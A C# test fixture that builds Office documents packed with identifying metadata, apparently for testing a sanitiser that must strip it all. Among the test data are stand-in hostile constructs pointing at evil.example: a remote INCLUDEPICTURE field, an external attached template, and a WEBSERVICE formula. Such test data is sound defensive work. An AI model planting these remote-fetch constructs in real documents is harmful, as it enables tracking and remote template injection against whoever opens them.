using System.Text;
using Submissions.Tests.Unit.Media.Jpeg;
using Submissions.Tests.Unit.Media.Zip;

namespace Submissions.Tests.Unit.Media.OpenXml;

/// <summary>Documents of Office with everything that tells who made them: each class once, as Word, Excel and PowerPoint write it.</summary>
internal static class OfficeBytes
{
    private const string Rels = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private const string Types = "application/vnd.openxmlformats-officedocument.";

    /// <summary>What must be nowhere in a copy.</summary>
    public static IReadOnlyList<string> Secrets { get; } =
    [
        "Alice", "2024-02-03", "C:\\Users", "file:///", "rsid", "DEADBEEF", "paraId", "docProps", "customXml", "evil.example", "vbaProject", "thumbnail", "printerSettings", "HP LaserJet",
    ];

    private const string Core = "<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:creator>Alice</dc:creator></cp:coreProperties>";

    public static byte[] Docx { get; } = Document(
        """
        <w:p w14:paraId="DEADBEEF" w:rsidR="00DEADBEEF"><w:r w:rsidRPr="00DEADBEEF"><w:t xml:space="preserve">It&apos;s  shown &#8212; </w:t></w:r>
        <w:ins w:id="1" w:author="Alice" w:date="2024-02-03T04:05:06Z"><w:r><w:t>inserted</w:t></w:r></w:ins>
        <w:del w:id="2" w:author="Alice" w:date="2024-02-03T04:05:06Z"><w:r><w:delText>gone</w:delText></w:r></w:del>
        <w:moveFrom w:id="3" w:author="Alice"><w:r><w:t>moved</w:t></w:r></w:moveFrom>
        <w:commentRangeStart w:id="0"/><w:proofErr w:type="spellStart"/><w:smartTag w:uri="x" w:element="y"><w:r><w:t>tagged</w:t></w:r></w:smartTag>
        <w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "http://evil.example/x.png" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>
        <w:hyperlink r:id="rLink"><w:r><w:t>web</w:t></w:r></w:hyperlink><w:hyperlink r:id="rFile"><w:r><w:t>disk</w:t></w:r></w:hyperlink>
        <w:r><w:drawing><wp:inline><wp:docPr id="1" name="C:\Users\Alice\a.jpg" descr="C:\Users\Alice\a.jpg"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="Alice.jpg"/></pic:nvPicPr><pic:blipFill><a:blip r:embed="rPic"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>
        <mc:AlternateContent><mc:Choice Requires="zz"><w:r><w:t>unknown</w:t></w:r></mc:Choice><mc:Fallback><w:r><w:t>fallback</w:t></w:r></mc:Fallback></mc:AlternateContent></w:p><!-- Alice was here -->
        """,
        ("word/media/photo of Alice.jpg", JpegBytes.Dirty));

    public static byte[] Xlsx { get; } = Package("xl/workbook.xml", "spreadsheetml.sheet.main+xml",
        "<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\"><fileVersion appName=\"xl\"/><fileSharing userName=\"Alice\"/><mc:AlternateContent><mc:Choice Requires=\"x15\"><x15ac:absPath url=\"C:\\Users\\Alice\\\" xmlns:x15ac=\"http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac\"/></mc:Choice></mc:AlternateContent><sheets><sheet name=\"S\" sheetId=\"1\" r:id=\"rId9\"/></sheets><definedNames><definedName name=\"outside\">'C:\\Users\\[b.xlsx]S'!A1</definedName><definedName name=\"inside\">S!A1</definedName></definedNames></workbook>", XlsxParts());

    public static byte[] Pptx { get; } = Package("ppt/presentation.xml", "presentationml.presentation.main+xml",
        "<p:presentation xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId3\"/></p:sldIdLst><p:modifyVerifier hashData=\"DEADBEEF\"/></p:presentation>", PptxParts());

    public static byte[] Document(string body, params (string Name, byte[] Content)[] more)
    {
        var parts = Parts("word/document.xml", "wordprocessingml.document.main+xml", DocumentXml(body), DocxParts());
        var packed = parts.Select(part => (part.Name, Encoding.UTF8.GetBytes(part.Content)));
        return ZipBytes.Make([.. packed, .. more]);
    }

    public static byte[] Package(string main, string type, string xml, (string Name, string Content)[] more) => ZipBytes.MakeOfTexts(Parts(main, type, xml, more));

    private static (string Name, string Content)[] DocxParts() =>
    [
        ("word/_rels/document.xml.rels", List(Relation("rPic", "image", "media/photo%20of%20Alice.jpg"), Relation("rSettings", "settings", "settings.xml"),
            Relation("rComments", "comments", "comments.xml"), Relation("rLink", "hyperlink", "https://news.example/a?b=1&amp;c=2", isExternal: true),
            Relation("rFile", "hyperlink", "file:///C:\\Users\\Alice\\a.docx", isExternal: true))),
        ("word/settings.xml", "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><w:attachedTemplate r:id=\"rId1\"/><w:defaultTabStop w:val=\"708\"/><w:rsids><w:rsid w:val=\"00DEADBEEF\"/></w:rsids></w:settings>"),
        ("word/_rels/settings.xml.rels", List(Relation("rId1", "attachedTemplate", "http://evil.example/t.dotm", isExternal: true))),
        ("word/comments.xml", "<w:comments xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:comment w:author=\"Alice\"/></w:comments>"),
    ];

    private static (string Name, string Content)[] XlsxParts() =>
    [
        ("xl/_rels/workbook.xml.rels", List(Relation("rId9", "worksheet", "worksheets/sheet1.xml"), Relation("rId8", "sharedStrings", "sharedStrings.xml"), Relation("rId7", "connections", "connections.xml"))),
        ("xl/worksheets/sheet1.xml", "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" xmlns:xr=\"http://schemas.microsoft.com/office/spreadsheetml/2014/revision\" xr:uid=\"{DEADBEEF-0000-0000-0000-000000000000}\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c><c r=\"B1\"><f>WEBSERVICE(\"http://evil.example\")</f><v>7</v></c><c r=\"C1\"><f>SUM(A1,B1)</f><v>8</v></c><c r=\"D1\"><f>[1]S!A1</f><v>9</v></c></row></sheetData><pageSetup r:id=\"rId1\"/></worksheet>"),
        ("xl/worksheets/_rels/sheet1.xml.rels", List(Relation("rId1", "printerSettings", "../printerSettings/printerSettings1.bin"))),
        ("xl/printerSettings/printerSettings1.bin", "HP LaserJet"),
        ("xl/sharedStrings.xml", "<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><si><t>cell &quot;text&quot;</t></si></sst>"),
        ("xl/connections.xml", "<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"/>"),
    ];

    private static (string Name, string Content)[] PptxParts() =>
    [
        ("ppt/_rels/presentation.xml.rels", List(Relation("rId1", "commentAuthors", "commentAuthors.xml"), Relation("rId3", "slide", "slides/slide1.xml"))),
        ("ppt/commentAuthors.xml", "<p:cmAuthorLst xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\"><p:cmAuthor id=\"0\" name=\"Alice\"/></p:cmAuthorLst>"),
        ("ppt/slides/slide1.xml", "<p:sld xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><p:cSld name=\"Alice\"><p:spTree><p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"Titel Alice\" descr=\"C:\\Users\\Alice\"/></p:nvSpPr><p:txBody><a:p><a:fld id=\"{DEADBEEF-0000-0000-0000-000000000000}\" type=\"datetime1\"><a:rPr/><a:t>3 Feb</a:t></a:fld><a:r><a:t>slide text</a:t></a:r></a:p></p:txBody></p:sp><p:graphicFrame><a:graphic><a:graphicData uri=\"ole\"><p:oleObj r:id=\"rId5\"><p:embed/><p:pic><p:nvPicPr><p:cNvPr id=\"3\" name=\"x\"/></p:nvPicPr><p:blipFill><a:blip r:embed=\"rId6\"/></p:blipFill></p:pic></p:oleObj></a:graphicData></a:graphic></p:graphicFrame></p:spTree></p:cSld></p:sld>"),
        ("ppt/slides/_rels/slide1.xml.rels", List(Relation("rId5", "oleObject", "../embeddings/oleObject1.bin"), Relation("rId6", "image", "../media/image1.emf"))),
        ("ppt/embeddings/oleObject1.bin", "C:\\Users\\Alice"),
        ("ppt/media/image1.emf", "no picture of Alice"),
    ];

    private static string DocumentXml(string body) =>
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\""
        + " xmlns:w14=\"http://schemas.microsoft.com/office/word/2010/wordml\" xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" xmlns:zz=\"urn:unknown\" mc:Ignorable=\"w14 zz\""
        + " xmlns:wp=\"http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\""
        + $" xmlns:pic=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><w:body>{body}</w:body></w:document>";

    private static (string Name, string Content)[] Parts(string main, string type, string xml, (string Name, string Content)[] more) =>
    [
        ("[Content_Types].xml", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
            + $"<Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/{main}\" ContentType=\"{Types}{type}\"/></Types>"),
        ("_rels/.rels", List(Relation("rId1", "officeDocument", main), "<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties\" Target=\"docProps/core.xml\"/>")),
        ("docProps/core.xml", Core),
        ("docProps/thumbnail.jpeg", "Alice"),
        ("customXml/item1.xml", "<Alice/>"),
        (main, xml),
        .. more,
    ];

    private static string Relation(string id, string type, string target, bool isExternal = false) =>
        $"<Relationship Id=\"{id}\" Type=\"{Rels}{type}\" Target=\"{target}\"{(isExternal ? " TargetMode=\"External\"" : "")}/>";

    private static string List(params string[] relationships) =>
        $"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">{string.Concat(relationships)}</Relationships>";
}
